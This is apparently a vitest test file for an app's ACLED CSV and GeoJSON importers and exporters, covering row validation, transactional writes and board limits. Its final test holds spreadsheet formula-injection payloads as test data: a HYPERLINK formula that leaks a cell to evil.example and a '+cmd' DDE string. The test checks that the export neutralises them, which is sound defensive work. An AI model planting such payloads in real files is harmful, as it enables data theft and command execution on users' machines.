/**
 * The importers on good, bad and mixed files: every bad row is reported with its row number and
 * reason, and the good rows are written in one transaction — all of them, or none when the person
 * asked for every row to be valid.
 */
import fs from "node:fs";
import path from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import * as Y from "yjs";
import { addCard, addPin, getPin, initBoard, listCards, listPins } from "@/lib/board/model";
import { exportCsv, exportGeoJson } from "@/lib/export/evidence";
import { ACLED_COLUMNS } from "./acled";
import { readAcledCsv } from "./csv";
import { readGeoJson } from "./geojson";
import { applyImport } from "./report";
import { fileURLToPath } from "node:url";

/** This file's directory. */
const here = path.dirname(fileURLToPath(import.meta.url));

const HEADER = ACLED_COLUMNS.join(",");

/** A CSV line in ACLED's layout with the given columns set and the others empty. */
function line(fields: Partial<Record<(typeof ACLED_COLUMNS)[number], string>>): string {
  return ACLED_COLUMNS.map((column) => {
    const value = fields[column] ?? "";
    return /[",\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
  }).join(",");
}

const good = (location: string, event_date: string, extra: Partial<Record<(typeof ACLED_COLUMNS)[number], string>> = {}) =>
  line({ event_date, location, latitude: "14.48", longitude: "-4.18", event_type: "Battles", actor1: "JNIM", tags: "JNIM", ...extra });

const file = (...lines: string[]) => [HEADER, ...lines].join("\n") + "\n";

function board(): Y.Doc {
  const doc = new Y.Doc();
  initBoard(doc, { title: "Test", question: "" });
  return doc;
}

function updates(doc: Y.Doc, act: () => void): number {
  let count = 0;
  const onUpdate = () => count++;
  doc.on("update", onUpdate);
  act();
  doc.off("update", onUpdate);
  return count;
}

describe("readAcledCsv", () => {
  it("turns each good row into a pin and a card, reading all three date forms", async () => {
    const report = await readAcledCsv(
      file(good("Mopti", "2019-02-24"), good("Djenne", "16 May 2025", { time_precision: "3" }), good("Gao", "7-Feb-25", { time_precision: "2" })),
    );
    expect(report.rejected).toEqual([]);
    expect(report.accepted.map((a) => a.row)).toEqual([2, 3, 4]);
    const [mopti, djenne, gao] = report.accepted.map((a) => a.item);
    expect(mopti.pin).toMatchObject({ title: "Mopti", lat: 14.48, lng: -4.18, kind: "event" });
    expect(mopti.card).toMatchObject({ title: "Battles by JNIM in Mopti", when: { start: "2019-02-24", precision: "day" } });
    expect(mopti.card.tags).toEqual(["JNIM"]);
    expect(djenne.card.when).toEqual({ start: "2025-05-01", precision: "month" });
    expect(gao.card.when).toEqual({ start: "2025-02-04", end: "2025-02-10", precision: "approx" });
  });

  it("reports each bad row with its row number and why", async () => {
    const report = await readAcledCsv(
      file(
        line({ event_date: "2019-02-30", latitude: "14", longitude: "-4" }),
        line({ event_date: "2019-02-01", latitude: "", longitude: "-4" }),
        line({ event_date: "2019-02-01", latitude: "95", longitude: "-4" }),
        line({ event_date: "2019-02-01", latitude: "14", longitude: "east" }),
        line({ event_date: "2019-02-01", latitude: "14", longitude: "-4", time_precision: "7" }),
        line({ event_date: "", latitude: "14", longitude: "-4" }),
      ),
    );
    expect(report.accepted).toEqual([]);
    expect(report.rejected).toEqual([
      { row: 2, reason: 'event_date "2019-02-30" is not a date (YYYY-MM-DD, 16 May 2025 or 7-Feb-25)' },
      { row: 3, reason: "latitude is missing" },
      { row: 4, reason: "latitude must be between -90 and 90" },
      { row: 5, reason: "longitude is not a number" },
      { row: 6, reason: 'time_precision must be 1, 2 or 3, not "7"' },
      { row: 7, reason: "event_date is missing" },
    ]);
  });

  it("refuses a file without the columns it needs, accepting nothing", async () => {
    const report = await readAcledCsv("date,place\n2019-02-01,Mopti\n");
    expect(report.fatal).toBe("the file has no event_date, latitude, longitude columns; is it in ACLED's layout?");
    expect(report.accepted).toEqual([]);
    expect((await readAcledCsv(HEADER + "\n")).fatal).toBe("the file has no rows");
  });

  it("reports progress up to the whole file in chunks", async () => {
    const rows = Array.from({ length: 200 }, (_, i) => good(`Place ${i}`, "2019-02-01"));
    const seen: number[] = [];
    const report = await readAcledCsv(file(...rows), { chunkSize: 2048, onProgress: (f) => seen.push(f) });
    expect(report.accepted).toHaveLength(200);
    expect(report.accepted[199].row).toBe(201);
    expect(seen.length).toBeGreaterThan(5);
    expect(seen).toEqual([...seen].sort((a, b) => a - b));
    expect(seen[seen.length - 1]).toBe(1);
  });

  it("reads the made-up sample shipped with the app without refusing a row", async () => {
    const sample = fs.readFileSync(path.join(here, "../../public/samples/made-up-acled-sample.csv"), "utf8");
    const report = await readAcledCsv(sample);
    expect(report.rejected).toEqual([]);
    expect(report.accepted.length).toBeGreaterThanOrEqual(30);
    expect(new Set(report.accepted.map((a) => a.item.card.when.precision))).toEqual(new Set(["day", "approx", "month"]));
  });
});

describe("applyImport on a mixed file", () => {
  const mixed = () => readAcledCsv(file(good("Mopti", "2019-02-24"), line({ event_date: "someday", latitude: "1", longitude: "1" }), good("Gao", "2019-03-01")));

  it("writes nothing when every row must be valid and one is not", async () => {
    const doc = board();
    const report = await mixed();
    expect(report.rejected).toEqual([{ row: 3, reason: 'event_date "someday" is not a date (YYYY-MM-DD, 16 May 2025 or 7-Feb-25)' }]);
    let outcome: ReturnType<typeof applyImport> | null = null;
    expect(updates(doc, () => (outcome = applyImport(doc, report, "all", "Ana")))).toBe(0);
    expect(outcome).toEqual({ refused: "1 row was refused, so nothing was imported" });
    expect(listCards(doc)).toEqual([]);
  });

  it("writes the valid rows in one transaction otherwise, each card linked to its pin", async () => {
    const doc = board();
    const report = await mixed();
    let outcome: ReturnType<typeof applyImport> | null = null;
    expect(updates(doc, () => (outcome = applyImport(doc, report, "valid", "Ana")))).toBe(1);
    expect(outcome).toEqual({ written: 2 });
    const cards = listCards(doc);
    expect(cards.map((c) => getPin(doc, c.pinIds[0])?.title)).toEqual(["Mopti", "Gao"]);
    expect(listPins(doc)).toHaveLength(2);
  });

  it("refuses a file too large to travel as one update, writing nothing", async () => {
    const doc = board();
    const [one] = (await readAcledCsv(file(good("Mopti", "2019-02-24")))).accepted;
    const huge = { accepted: Array.from({ length: 10_001 }, () => one), rejected: [] };
    expect(updates(doc, () => expect(applyImport(doc, huge, "all", "Ana")).toEqual({ refused: "more than 10,000 rows; split the file and import the parts" }))).toBe(0);
  });

  it("refuses an import that would take the board past its limits, writing nothing, and writes one that fits", async () => {
    const doc = board();
    const [one] = (await readAcledCsv(file(good("Mopti", "2019-02-24")))).accepted;
    const report = { accepted: Array.from({ length: 50 }, () => one), rejected: [] };
    const byItems = applyImport(doc, report, "all", "Ana", undefined, { maxBytes: 10_000_000, maxItems: 500 });
    expect(byItems).toEqual({ refused: expect.stringMatching(/^This board is full: it holds \d+ of 500 items, and this import adds 1,\d{3}$/) });
    const byBytes = applyImport(doc, report, "all", "Ana", undefined, { maxBytes: 8_000, maxItems: 100_000 });
    expect(byBytes).toEqual({ refused: expect.stringMatching(/^This board is full: it holds 1 KiB of 8 KiB, and this import needs \d+ KiB more$/) });
    expect(listCards(doc)).toHaveLength(0);
    expect(applyImport(doc, report, "all", "Ana", undefined, { maxBytes: 10_000_000, maxItems: 100_000 })).toEqual({ written: 50 });
  });

  it("writes every row of a good file in either mode and refuses a fatal one", async () => {
    const doc = board();
    const report = await readAcledCsv(file(good("Mopti", "2019-02-24")));
    expect(applyImport(doc, report, "all", "Ana")).toEqual({ written: 1 });
    expect(applyImport(doc, { accepted: [], rejected: [], fatal: "the file is not JSON" }, "valid", "Ana")).toEqual({
      refused: "the file is not JSON",
    });
  });
});

describe("readGeoJson", () => {
  it("reads points with ACLED properties, lines and polygons as areas, and reports features that are neither", () => {
    const report = readGeoJson(
      JSON.stringify({
        type: "FeatureCollection",
        features: [
          { type: "Feature", geometry: { type: "Point", coordinates: [-4.18, 14.48] }, properties: { event_date: "2019-02-24", location: "Mopti", tags: ["JNIM"] } },
          { type: "Feature", geometry: { type: "LineString", coordinates: [[0, 0, 250], [1, 1, 260]] }, properties: { name: "Track", validFrom: "2018" } },
          { type: "Feature", geometry: { type: "Point", coordinates: [-4.18, 14.48] }, properties: { event_date: "tomorrow" } },
          { type: "Feature", geometry: { type: "MultiPoint", coordinates: [[0, 0]] }, properties: {} },
          { type: "Feature", geometry: { type: "Polygon", coordinates: [[[0, 0], [1, 0], [1, 1], [0, 0]]] }, properties: { title: "Held", kind: "control", validTo: "next year" } },
          { type: "Feature", geometry: { type: "Polygon", coordinates: [[[0, 0], [1, 0], [1, 1]]] }, properties: { title: "Sector", kind: "route", description: "Open ring" } },
        ],
      }),
    );
    expect(report.accepted.map((a) => [a.row, a.item.pin?.title ?? a.item.area?.title, a.item.card?.tags])).toEqual([
      [1, "Mopti", ["JNIM"]],
      [2, "Track", undefined],
      [6, "Sector", undefined],
    ]);
    expect(report.accepted[1].item.area).toEqual({
      title: "Track",
      kind: "route",
      note: "",
      geometry: { type: "LineString", coordinates: [[0, 0], [1, 1]] },
      validFrom: { start: "2018-01-01", precision: "year" },
    });
    // A kind that does not fit the shape gives way to the shape's own; an open ring is closed.
    expect(report.accepted[2].item.area).toMatchObject({ kind: "operation", note: "Open ring", geometry: { coordinates: [[[0, 0], [1, 0], [1, 1], [0, 0]]] } });
    expect(report.rejected).toEqual([
      { row: 3, reason: 'event_date "tomorrow" is not a date (YYYY-MM-DD, 16 May 2025 or 7-Feb-25)' },
      { row: 4, reason: "the feature is not a point, a line or a polygon" },
      { row: 5, reason: 'validTo "next year" is not a date the board reads (2018, Mar 2019, 2019-03-24)' },
    ]);
  });

  it("refuses what is not a FeatureCollection", () => {
    expect(readGeoJson("{").fatal).toBe("the file is not JSON");
    expect(readGeoJson('{"type":"Feature"}').fatal).toBe("the file is not a GeoJSON FeatureCollection");
  });
});

describe("export", () => {
  it("writes CSV and GeoJSON that import back into the same cards", async () => {
    const source = board();
    const report = await readAcledCsv(
      file(good("Mopti", "2019-02-24", { notes: 'Said "at dawn", twice' }), good("Gao", "7-Feb-25", { time_precision: "2" })),
    );
    applyImport(source, report, "all", "Ana");
    const strip = (doc: Y.Doc) =>
      listCards(doc).map(({ title, body, when, source: s, grade, tags }) => ({ title, body, when, source: s, grade, tags }));

    const fromCsv = board();
    applyImport(fromCsv, await readAcledCsv(exportCsv(source)), "all", "Ben");
    expect(strip(fromCsv)).toEqual(strip(source));

    const fromGeoJson = board();
    applyImport(fromGeoJson, readGeoJson(exportGeoJson(source)), "all", "Ben");
    expect(strip(fromGeoJson)).toEqual(strip(source));
    expect(listPins(fromGeoJson).map((p) => [p.title, p.lat, p.lng]).sort()).toEqual(
      listPins(source).map((p) => [p.title, p.lat, p.lng]).sort(),
    );
  });

  it("neutralises cells a spreadsheet would run as formulas, and imports them back unchanged", async () => {
    const source = board();
    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';
    const mopti = addPin(source, { title: "@Mopti", lng: -4.18, lat: 14.48 }, "ana");
    const gao = addPin(source, { title: "'=Already quoted", lng: 0.05, lat: 16.27 }, "ana");
    const when = { start: "2019-02-24", precision: "day" } as const;
    addCard(source, { title: hyperlink, body: "+cmd|' /C calc'!A0", when, source: { title: "-2+3", url: "" }, tags: ["-1", "ok"], pinIds: [mopti] }, "ana");
    addCard(source, { title: "''=Twice quoted", body: "\tTabbed", when: { ...when, start: "2019-02-25" }, source: { title: "\rReturned", url: "" }, pinIds: [gao] }, "ana");
    const csv = exportCsv(source);

    // No cell, read as a spreadsheet reads it, starts a formula; numbers stay numbers.
    const cells = Papa.parse<string[]>(csv, { header: false }).data.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open the report"")"`);
    expect(csv).toContain(`"'+cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'\tTabbed"`);
    expect(csv).toContain(`"'''=Twice quoted"`);
    expect(csv).toContain(",14.48,-4.18,");

    // The import takes exactly the added quote off again.
    const strip = (doc: Y.Doc) => listCards(doc).map(({ title, body, source: s, tags }) => ({ title, body, source: s, tags }));
    const back = board();
    applyImport(back, await readAcledCsv(csv), "all", "Ben");
    expect(strip(back)).toEqual([
      { title: hyperlink, body: "+cmd|' /C calc'!A0", source: { title: "-2+3", url: "" }, tags: ["-1", "ok"] },
      // The import trims cells, as it always has; the quotes are what it restores.
      { title: "''=Twice quoted", body: "Tabbed", source: { title: "Returned", url: "" }, tags: [] },
    ]);
    expect(listPins(back).map((pin) => pin.title).sort()).toEqual(["'=Already quoted", "@Mopti"]);
  });
});
